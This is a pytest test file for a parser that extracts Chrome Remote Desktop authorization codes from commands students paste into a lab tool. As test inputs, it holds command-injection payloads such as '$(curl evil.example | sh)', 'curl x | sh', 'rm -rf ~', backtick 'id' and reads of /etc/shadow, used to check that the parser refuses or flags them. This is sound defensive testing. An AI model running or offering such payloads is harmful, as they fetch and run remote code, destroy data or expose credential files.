"""What a student may paste as a CRD command, and what LabLink makes of it."""

from __future__ import annotations

import re

import pytest

from lablink_jupyter.crd import (
    CODE_RE,
    MAX_PASTE_CHARS,
    REDIRECT_URL,
    CrdCommand,
    CrdCommandError,
    linux_command,
    parse_crd_command,
)

# Shaped like a real code: "4/0AVG7fiQ" and 62 more base64url characters.
CODE = "4/0AVG7fiQ" + "Xk3_pL9-qR2sT8uV0wY4zA6bC1dE5fG7hJ9kM2nP4rS6tU8vW0xY2zB4cD6eF8"
OTHER_CODE = "4/0AfJohXn" + "b2Zq7Lr-Yc_Tk8Pw3Ms9Vd0Ne4Hg5Fj6Bx1Cz2Dy3Ea4Gu5Ho6Ip7Kq8Lr9Ms0"
REDIRECT = f'--redirect-url="{REDIRECT_URL}"'
LINUX = f'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="{CODE}" {REDIRECT} --name=$(hostname)'
WINDOWS_EXE = r"Google\Chrome Remote Desktop\CurrentVersion\remoting_start_host.exe"
CMD = f'"%PROGRAMFILES(X86)%\\{WINDOWS_EXE}" --code="{CODE}" {REDIRECT} --name=%COMPUTERNAME%'
POWERSHELL = (
    f'& "${{Env:PROGRAMFILES(X86)}}\\{WINDOWS_EXE}" --code="{CODE}" {REDIRECT} '
    "--name=$Env:COMPUTERNAME"
)


def test_sample_codes_are_real_shaped() -> None:
    assert len(CODE) == len(OTHER_CODE) == 72
    assert CODE_RE.fullmatch(CODE) and CODE_RE.fullmatch(OTHER_CODE)


ACCEPTED = [
    ("linux", LINUX, CODE, "linux"),
    ("linux-dollar-prompt", "$ " + LINUX, CODE, "linux"),
    ("linux-root-prompt", "# " + LINUX, CODE, "linux"),
    ("linux-full-prompt", "student@lab-vm:~$ " + LINUX, CODE, "linux"),
    ("linux-smart-double-quotes", LINUX.replace('"', "\u201c", 1).replace(f'{CODE}"', f"{CODE}\u201d"), CODE, "linux"),
    ("linux-all-smart-quotes", LINUX.replace('="', "=\u201c").replace('" ', "\u201d "), CODE, "linux"),
    ("linux-smart-single-quotes", LINUX.replace(f'"{CODE}"', f"\u2018{CODE}\u2019"), CODE, "linux"),
    ("linux-fullwidth-quotes", LINUX.replace('"', "\uff02"), CODE, "linux"),
    ("linux-wrapped-between-flags", LINUX.replace(" --", "\n--"), CODE, "linux"),
    ("linux-crlf", LINUX.replace(" --", "\r\n--") + "\r\n", CODE, "linux"),
    ("linux-code-split-over-two-lines", LINUX.replace(CODE, CODE[:30] + "\n" + CODE[30:]), CODE, "linux"),
    ("linux-code-split-crlf-indented", LINUX.replace(CODE, CODE[:41] + "\r\n    " + CODE[41:]), CODE, "linux"),
    ("linux-surrounding-whitespace", "\n\n\t  " + LINUX + "  \n\n", CODE, "linux"),
    ("linux-nbsp-for-spaces", LINUX.replace(" ", "\u00a0"), CODE, "linux"),
    ("linux-zero-width-in-code", LINUX.replace(CODE, CODE[:12] + "\u200b" + CODE[12:] + "\ufeff"), CODE, "linux"),
    ("linux-em-dash-flag", LINUX.replace("--code", "\u2014code"), CODE, "linux"),
    ("linux-en-dash-flag", LINUX.replace("--code", "\u2013code"), CODE, "linux"),
    ("linux-unquoted-code", LINUX.replace(f'"{CODE}"', CODE), CODE, "linux"),
    ("linux-single-quoted-code", LINUX.replace(f'"{CODE}"', f"'{CODE}'"), CODE, "linux"),
    ("linux-extra-flag-after", LINUX + " --pin=123456", CODE, "linux"),
    ("linux-chained-command-after", LINUX + " && curl x | sh", CODE, "linux"),
    ("linux-semicolon-after-closing-quote", LINUX.replace(f'"{CODE}"', f'"{CODE}";rm -rf ~'), CODE, "linux"),
    ("linux-pasted-twice", LINUX + "\n" + LINUX, CODE, "linux"),
    ("only-the-flag", f'--code="{CODE}"', CODE, "linux"),
    ("windows-cmd", CMD, CODE, "windows-cmd"),
    ("macos", f'/Library/Google/ChromeRemoteDesktop/remoting_start_host --code="{CODE}" {REDIRECT} '
     "--name=$(hostname)", CODE, "macos"),
    ("windows-cmd-prompt", "C:\\Users\\ana> " + CMD, CODE, "windows-cmd"),
    ("windows-powershell", POWERSHELL, CODE, "windows-powershell"),
    ("windows-powershell-prompt", "PS C:\\Users\\ana> " + POWERSHELL, CODE, "windows-powershell"),
    ("windows-powershell-smart-quotes", POWERSHELL.replace('"', "\u201d"), CODE, "windows-powershell"),
    ("bare-code", CODE, CODE, "code-only"),
    ("bare-code-dollar-prompt", "$ " + CODE, CODE, "code-only"),
    ("bare-code-powershell-prompt", "PS C:\\Users\\ana> " + CODE, CODE, "code-only"),
    ("bare-code-in-quotes", f'"{CODE}"\n', CODE, "code-only"),
    ("bare-code-in-smart-quotes", f"\u201c{CODE}\u201d", CODE, "code-only"),
    ("bare-code-split-over-lines", CODE[:25] + "\r\n" + CODE[25:50] + "\n" + CODE[50:], CODE, "code-only"),
    ("bare-code-nbsp-around", "\u00a0" + CODE + "\u00a0\u200b", CODE, "code-only"),
    ("shortest-code", "4/0" + "A" * 17, "4/0" + "A" * 17, "code-only"),
    ("longest-code", "4/0" + "A" * 509, "4/0" + "A" * 509, "code-only"),
    ("max-paste-length", CODE + " " * (MAX_PASTE_CHARS - len(CODE)), CODE, "code-only"),
]


@pytest.mark.parametrize(
    ("text", "code", "variant"), [case[1:] for case in ACCEPTED], ids=[case[0] for case in ACCEPTED]
)
def test_accepted_pastes_yield_only_the_code(text: str, code: str, variant: str) -> None:
    parsed = parse_crd_command(text)
    assert (parsed.code, parsed.variant) == (code, variant)


HEADLESS_HINT = "remotedesktop.google.com/headless"

REFUSED = [
    ("empty", "", ["Nothing was pasted"], [HEADLESS_HINT, "Begin", "Authorize", "Debian Linux"]),
    ("whitespace", " \r\n\t\u00a0\u200b ", ["Nothing was pasted"], [HEADLESS_HINT]),
    ("headless-url", "https://remotedesktop.google.com/headless", ["address of a web page"], [HEADLESS_HINT, "Begin", "Debian Linux"]),
    ("access-url", "remotedesktop.google.com/access", ["address of a web page"], [HEADLESS_HINT]),
    ("other-url", "https://example.org/help", ["address of a web page"], [HEADLESS_HINT]),
    ("prose", "help, what do I paste here?", ["not a Chrome Remote Desktop command", "4/0"], [HEADLESS_HINT]),
    ("command-without-code", f"DISPLAY= /opt/google/chrome-remote-desktop/start-host {REDIRECT} --name=$(hostname)", ["--code=", "missing"], [HEADLESS_HINT]),
    ("code-with-words-but-no-flag", f"my code is {CODE}", ["--code="], [HEADLESS_HINT]),
    ("unquoted-code-then-semicolon", "--code=4/0abc; rm -rf ~", ["never has", "';'"], [HEADLESS_HINT, "exactly as shown"]),
    ("quoted-code-with-semicolon", '--code="4/0abc; rm -rf ~"', ["never has", "';'"], [HEADLESS_HINT]),
    ("real-code-then-semicolon-unquoted", f"--code={CODE};rm -rf ~", ["never has", "';'"], [HEADLESS_HINT]),
    ("command-substitution-as-code", '--code="$(curl evil)"', ["never has", "'$'"], [HEADLESS_HINT]),
    ("command-substitution-in-code", LINUX.replace(CODE, CODE + "$(curl evil)"), ["never has", "'$'"], [HEADLESS_HINT]),
    ("backticks-in-code", LINUX.replace(CODE, CODE + "`id`"), ["never has", "'`'"], [HEADLESS_HINT]),
    ("pipe-in-unquoted-code", f"--code={CODE}|sh", ["never has", "'|'"], [HEADLESS_HINT]),
    ("ampersand-in-unquoted-code", f"--code={CODE}&&reboot", ["never has", "'&'"], [HEADLESS_HINT]),
    ("slash-in-code-body", LINUX.replace(CODE, CODE + "/../../etc"), ["never has", "'/'"], [HEADLESS_HINT]),
    ("bare-command-substitution", "$(curl evil)", ["not a Chrome Remote Desktop command"], [HEADLESS_HINT]),
    ("bare-backticks", "`curl evil | sh`", ["not a Chrome Remote Desktop command"], [HEADLESS_HINT]),
    ("bare-code-then-words", f"{CODE} thanks!", ["never has", "a space"], [HEADLESS_HINT]),
    ("one-megabyte", "x" * 1_000_000, ["1,000,000 characters"], [HEADLESS_HINT, "only the one command"]),
    ("one-megabyte-around-a-code", LINUX + " " * 1_048_576, [f"{len(LINUX) + 1_048_576:,} characters"], [HEADLESS_HINT]),
    ("one-over-the-limit", CODE + " " * (MAX_PASTE_CHARS + 1 - len(CODE)), [f"{MAX_PASTE_CHARS + 1:,} characters"], [HEADLESS_HINT]),
    ("cyrillic-a-in-code", LINUX.replace(CODE, CODE.replace("A", "\u0410", 1)), ["only looks like", "U+0410 CYRILLIC CAPITAL LETTER A"], ["copy it again", HEADLESS_HINT]),
    ("cyrillic-o-as-zero", LINUX.replace(CODE, "4/\u041e" + CODE[3:]), ["only looks like", "U+041E"], [HEADLESS_HINT]),
    ("greek-omicron-in-bare-code", CODE.replace("p", "\u03bf"), ["only looks like", "GREEK"], [HEADLESS_HINT]),
    ("fullwidth-digits-bare", "\uff14/\uff10" + CODE[3:], ["only looks like", "FULLWIDTH"], [HEADLESS_HINT]),
    ("two-commands-two-codes", LINUX + "\n" + LINUX.replace(CODE, OTHER_CODE), ["two different codes"], ["newest", HEADLESS_HINT]),
    ("command-and-another-bare-code", OTHER_CODE + "\n" + LINUX, ["two different codes"], [HEADLESS_HINT]),
    ("windows-and-linux-different-codes", CMD + "\n" + LINUX.replace(CODE, OTHER_CODE), ["two different codes"], [HEADLESS_HINT]),
    ("code-cut-off", LINUX.replace(CODE, CODE[:12]), ["too short", "12 characters", "cut off"], [HEADLESS_HINT]),
    ("bare-code-cut-off", CODE[:19], ["too short"], [HEADLESS_HINT]),
    ("code-too-long", LINUX.replace(CODE, "4/0" + "A" * 510), ["too long", "513 characters"], [HEADLESS_HINT]),
    ("not-a-4-0-code", LINUX.replace(CODE, CODE[3:]), ["start with 4/0"], [HEADLESS_HINT]),
    ("empty-code", LINUX.replace(CODE, ""), ["empty"], [HEADLESS_HINT]),
]


@pytest.mark.parametrize(
    ("text", "in_message", "in_hint"),
    [case[1:] for case in REFUSED],
    ids=[case[0] for case in REFUSED],
)
def test_refused_pastes_say_what_and_what_next(text: str, in_message: list[str], in_hint: list[str]) -> None:
    with pytest.raises(CrdCommandError) as caught:
        parse_crd_command(text)
    error = caught.value
    assert str(error) == error.message
    for fragment in in_message:
        assert fragment in error.message
    for fragment in in_hint:
        assert fragment in error.hint


@pytest.mark.parametrize("text", [case[1] for case in REFUSED], ids=[case[0] for case in REFUSED])
def test_refusals_never_repeat_the_code(text: str) -> None:
    with pytest.raises(CrdCommandError) as caught:
        parse_crd_command(text)
    said = caught.value.message + caught.value.hint
    fragments = [CODE[3:13], CODE[-10:], OTHER_CODE[3:13], OTHER_CODE[-10:]]
    fragments += re.findall(r"4/0[A-Za-z0-9_-]{3,}", text)
    for fragment in fragments:
        assert fragment not in said
    assert len(said) < 600


def test_a_line_break_anywhere_in_the_quoted_code_is_tolerated() -> None:
    for cut in range(1, len(CODE)):
        damaged = LINUX.replace(CODE, CODE[:cut] + "\r\n" + CODE[cut:])
        assert parse_crd_command(damaged).code == CODE


def test_command_repr_hides_the_code() -> None:
    command = parse_crd_command(LINUX)
    assert CODE not in repr(command)
    assert "linux" in repr(command)


def test_error_is_a_value_error_with_a_default_hint() -> None:
    error = CrdCommandError("Something is off.")
    assert isinstance(error, ValueError)
    assert str(error) == "Something is off."
    assert HEADLESS_HINT in error.hint


def test_non_text_is_a_programming_error() -> None:
    with pytest.raises(TypeError):
        parse_crd_command(None)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("length", "matches"), [(19, False), (20, True), (72, True), (512, True), (513, False)]
)
def test_code_pattern_bounds(length: int, matches: bool) -> None:
    assert bool(CODE_RE.fullmatch("4/0" + "a" * (length - 3))) is matches


@pytest.mark.parametrize("code", ["4/1" + "a" * 30, "4/0" + "a" * 28 + "=", "4/0" + "a" * 28 + "\n", "x4/0" + "a" * 30])
def test_code_pattern_refuses_other_shapes(code: str) -> None:
    assert CODE_RE.fullmatch(code) is None


def test_linux_command_is_googles_shape_and_parses_back() -> None:
    text = linux_command(CODE, "lab-vm-3")
    assert text == (
        f'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="{CODE}" '
        f'--redirect-url="{REDIRECT_URL}" --name=lab-vm-3'
    )
    assert parse_crd_command(text) == CrdCommand(code=CODE, variant="linux")


def test_linux_command_quotes_a_name_a_shell_would_expand() -> None:
    assert linux_command(CODE, "vm $(id)").endswith("--name='vm $(id)'")
    assert linux_command(CODE, "it's").endswith("--name='it'\"'\"'s'")


def test_linux_command_refuses_a_bad_code() -> None:
    with pytest.raises(ValueError):
        linux_command("4/0abc; rm -rf ~", "vm")


BEYOND_GOOGLES_COMMAND = {
    "linux-extra-flag-after": ("--pin",),
    "linux-chained-command-after": ("'&&'", "'|'"),
    "linux-semicolon-after-closing-quote": ("';'",),
    "linux-pasted-twice": ("a second line",),
}


@pytest.mark.parametrize("name,text", [(case[0], case[1]) for case in ACCEPTED], ids=[case[0] for case in ACCEPTED])
def test_what_google_never_prints_is_named_as_left_out(name: str, text: str) -> None:
    assert parse_crd_command(text).ignored == BEYOND_GOOGLES_COMMAND.get(name, ())


@pytest.mark.parametrize("added,named", [
    ("; rm -rf /", ("';'",)),
    ("$(curl evil.example | sh)", ("'$('", "'|'")),
    ("`id`", ("'`'",)),
    ("--user-name=root", ("--user-name",)),
    ('--redirect-url="https://evil.example/"', ("another --redirect-url",)),
    ("> /etc/passwd", ("'>'",)),
    ("< /etc/shadow", ("'<'",)),
    ("& curl evil.example", ("'&'",)),
    ("--name=evilhost", ("another --name",)),
    ("rm -rf /", ("other words",)),
])
def test_additions_to_the_linux_command_are_named(added: str, named: tuple[str, ...]) -> None:
    parsed = parse_crd_command(LINUX + " " + added)
    assert parsed.code == CODE and parsed.ignored == named
